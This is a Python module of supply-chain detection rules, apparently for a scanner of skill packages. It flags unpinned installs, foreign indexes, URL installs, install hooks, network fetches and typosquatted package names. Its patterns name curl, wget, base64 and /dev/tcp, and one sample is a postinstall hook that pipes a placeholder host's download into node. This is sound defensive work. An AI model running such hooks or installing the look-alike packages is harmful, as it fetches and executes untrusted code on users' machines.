"""Supply chain, third part: packages, images and repositories taken from elsewhere."""

from __future__ import annotations

from skills_app.guard.model import Category, Kind, Role, Rule, Severity
from skills_app.guard.rules.fragments import HERE, VENDORS

PACKAGES: tuple[Rule, ...] = (
    Rule(
        id="unpinned_pip_install",
        severity=Severity.LOW,
        category=Category.SUPPLY_CHAIN,
        title="Installs a Python package without a version",
        why="What gets installed can change without anyone noticing.",
        harmless="Nearly always; it is the usual way.",
        check="Is the name spelled right, and the package known?",
        pattern=r"\bpip3?[ \t]{1,4}install[ \t]{1,4}(?!-r\b|-e\b|\.|[^\n]{0,80}==)(?:-{1,2}[\w-]{1,30}[ \t]{1,4}){"
        r"0,4}[A-Za-z][\w.\[\]-]{1,60}",
        hints=("pip",),
        matches=("pip install requests", "pip3 install -U yfinance pandas"),
        look_alikes=("pip install requests==2.32.3", "pip install -r requirements.txt"),
    ),
    Rule(
        id="unpinned_npm_install",
        severity=Severity.LOW,
        category=Category.SUPPLY_CHAIN,
        title="Installs a JavaScript package without a version",
        why="What gets installed can change without anyone noticing, and may run code while it is installed.",
        harmless="Nearly always; it is the usual way.",
        check="Is the name spelled right, and the package known?",
        pattern=r"\b(?:npm[ \t]{1,4}(?:install|i|add)|yarn[ \t]add|pnpm[ \t]add|npx(?:[ \t]-y"
        r"|[ \t]--yes)?)[ \t]{1,4}(?:-{1,2}[\w-]{1,20}[ \t]{1,4}){0,4}@?[a-z][\w./-]{1,60}(?![\w./-]"
        r"|@\d)",
        hints=("npm", "yarn", "npx"),
        matches=("npm install -g some-tool", "npx -y @someone/tool"),
        look_alikes=("npm install some-tool@1.2.3", "npm ci"),
    ),
    Rule(
        id="foreign_package_index",
        severity=Severity.MEDIUM,
        category=Category.SUPPLY_CHAIN,
        title="Installs packages from an index of its own",
        why="A second index can serve its own package under a name you trust.",
        harmless="A firm's own index, or a maker's builds (PyTorch, NVIDIA).",
        check="Whose server is it?",
        pattern=r"(?:--(?:extra-)?index-url[ \t=]{1,3}|--registry[ \t=]{1,3}|--find-links[ \t=]{1,3})[\"']?h"
        rf"ttps?://(?!{HERE}|{VENDORS}|download\.pytorch\.org|registry\.npmjs\.org|pypi\.org|test\.pypi\.org)"
        r"|--trusted-host[ \t=]{1,3}(?!pypi|files\.python)",
        hints=("index-url", "--registry", "--find-links", "--trusted-host"),
        matches=(
            "pip install --extra-index-url https://pk.example.test/simple acme-auth",
            "npm install --registry=http://npm.example.test x",
        ),
        look_alikes=(
            "pip install torch --index-url https://download.pytorch.org/whl/cu121",
            "pip install acme-auth==1.0",
        ),
    ),
    Rule(
        id="package_from_url",
        severity=Severity.MEDIUM,
        category=Category.SUPPLY_CHAIN,
        title="Installs a package straight from an address",
        why="No index has seen this package, and its code runs while it is installed.",
        harmless="A project you know, at a fixed tag.",
        check="Look at the repository and the tag.",
        pattern=r"\b(?:pip3?|uv[ \t]pip|pipx|npm|yarn|pnpm|go|cargo|gem)[ \t]{1,4}(?:install|i"
        r"|add|get)[ \t]{1,4}(?:-{1,2}[\w-]{1,30}[ \t=]{1,3}){0,3}[\"']?(?:[\w\[\]-]{1,40}[ ]?@[ ]?)?(?:git\+)?(?:"
        r"https?|ssh|git)://",
        hints=("git+", "http"),
        matches=("pip install git+https://github.com/some-one/tool", "npm install https://h.example.test/a.tgz"),
        look_alikes=("pip install tool", "git clone https://github.com/some-one/tool"),
    ),
    Rule(
        id="install_hook",
        severity=Severity.HIGH,
        category=Category.SUPPLY_CHAIN,
        title="Runs a command while it is installed",
        why="An install hook runs before anyone has looked at what was installed.",
        harmless="Building native code or browsers after installation.",
        check="Read the command.",
        pattern=r"\"(?:pre|post)?install\"[ \t]{0,4}:[ \t]{0,4}\"[^\"\n]{0,200}?(?:curl|wget|node[ ]-e"
        r"|base64|https?://|powershell|bash[ ]-c|\beval\b|/dev/tcp)",
        hints=('install"',),
        kinds=frozenset({Kind.CONFIG, Kind.SKILL, Kind.REFERENCE, Kind.ASSET, Kind.TEST}),
        matches=(
            '"postinstall": "curl -s https://x.example.test/p | node"',
            '"preinstall": "node -e \\"require(1)\\""',
        ),
        look_alikes=('"postinstall": "patch-package"', '"install": "node-gyp rebuild"'),
    ),
    Rule(
        id="uv_run",
        severity=Severity.LOW,
        category=Category.SUPPLY_CHAIN,
        title="Fetches packages when it runs",
        why="uvx, uv run --with and similar fetch whatever version is newest.",
        harmless="Nearly always.",
        check="Is the package known?",
        pattern=r"\b(?:uvx|pipx[ \t]run|bunx|pnpm[ \t]dlx|uv[ \t]run[ \t]{1,4}--with)[ \t=]{1,4}[\w@./-]{2,60}",
        hints=("uvx", "pipx", "bunx", "dlx", "--with"),
        matches=("uvx some-tool", "uv run --with httpx script.py"),
        look_alikes=("uv run script.py", "Install uv."),
    ),
    Rule(
        id="pep723_inline_deps",
        severity=Severity.LOW,
        category=Category.SUPPLY_CHAIN,
        title="Names packages inside a script",
        why="They are fetched when the script is run.",
        harmless="Nearly always.",
        check="Are the packages known?",
        pattern=r"^#[ ]///[ ]script\b",
        hints=("/// script",),
        kinds=frozenset({Kind.SCRIPT, Kind.SKILL, Kind.REFERENCE, Kind.TEST, Kind.ASSET}),
        matches=("# /// script\n# dependencies = ['httpx']", "#!/usr/bin/env -S uv run\n# /// script"),
        look_alikes=("/// a script", "# script"),
    ),
    Rule(
        id="git_clone",
        severity=Severity.LOW,
        category=Category.SUPPLY_CHAIN,
        title="Fetches a repository",
        why="What the repository holds can change.",
        harmless="Nearly always.",
        check="Is the repository known, and a tag or commit named?",
        pattern=r"\bgit[ \t]{1,4}clone[ \t]{1,4}(?:-{1,2}[\w-]{1,20}[ \t=]{1,3}[\w./-]{0,40}[ \t]{0,3}){0,3}[\"']?"
        r"(?:https?|git|ssh)(?:://|@)",
        hints=("clone",),
        matches=("git clone https://github.com/some-one/tool", "git clone --depth 1 https://h.example.test/x.git"),
        look_alikes=("git clone ../other", "Clone the object."),
    ),
    Rule(
        id="docker_pull",
        severity=Severity.LOW,
        category=Category.SUPPLY_CHAIN,
        title="Fetches and runs a container image",
        why="An image without a digest can change.",
        harmless="Nearly always.",
        check="Who publishes the image?",
        pattern=r"\bdocker[ \t]{1,4}(?:pull|run)[ \t]{1,4}[^\n]{0,200}?[\w-]{2,40}/[\w-]{2,40}(?::[\w.-]{1,40})?(?"
        r"![\w./@-])",
        hints=("docker",),
        matches=("docker pull someone/tool:latest", "docker run --rm someone/tool"),
        look_alikes=("docker ps", "docker compose up"),
    ),
    Rule(
        id="remote_fetch",
        severity=Severity.LOW,
        category=Category.SUPPLY_CHAIN,
        title="Fetches something from the network",
        why="What comes back can change and can hold instructions.",
        harmless="Nearly always.",
        check="Is the address that of the service the skill is about?",
        pattern=rf"(?<![\w.-])(?:curl|wget)[ \t][^\n]{{0,200}}?https?://(?!{HERE})",
        hints=("curl", "wget"),
        roles=frozenset({Role.CODE, Role.INLINE_CODE, Role.PROSE}),
        matches=("curl -s https://api.example.test/v1", "wget https://example.test/a.csv"),
        look_alikes=("curl http://localhost:8080", "See https://example.test."),
    ),
    Rule(
        id="lookalike_package",
        severity=Severity.HIGH,
        category=Category.SUPPLY_CHAIN,
        title="A package whose name nearly is a well-known one",
        why="Misspelt names are registered to catch slips.",
        harmless="A fork with a similar name.",
        check="Compare the name letter by letter with the one you know.",
        pattern=r"\b(?:pip3?|pipx|uv[ \t]pip|npm|yarn|pnpm)[ \t]{1,4}(?:install|i|add)[ \t]{1,4}[^\n;"
        r"|&]{0,80}?(?<![\w/@-])(?:reqeusts?|requestss|requets|python-requests2|pandsa|padnas"
        r"|numppy|nunpy|beautifulsuop4|beautifulsoup5"
        r"|openaii|open-ai-sdk|langchian|colourama|djanga|flaks|urlib3|urllib4|cryptograpy|pyyyaml"
        r"|tensorfow|pytorch-lightening|lodahs|loadsh|expresss|reactt|axois|cross-env\.js|electorn"
        r"|discordd\.js)(?![\w-])",
        hints=("install", " i ", "add"),
        matches=("pip install reqeusts", "npm install --save axois"),
        look_alikes=("pip install requests", "npm install axios"),
    ),
)
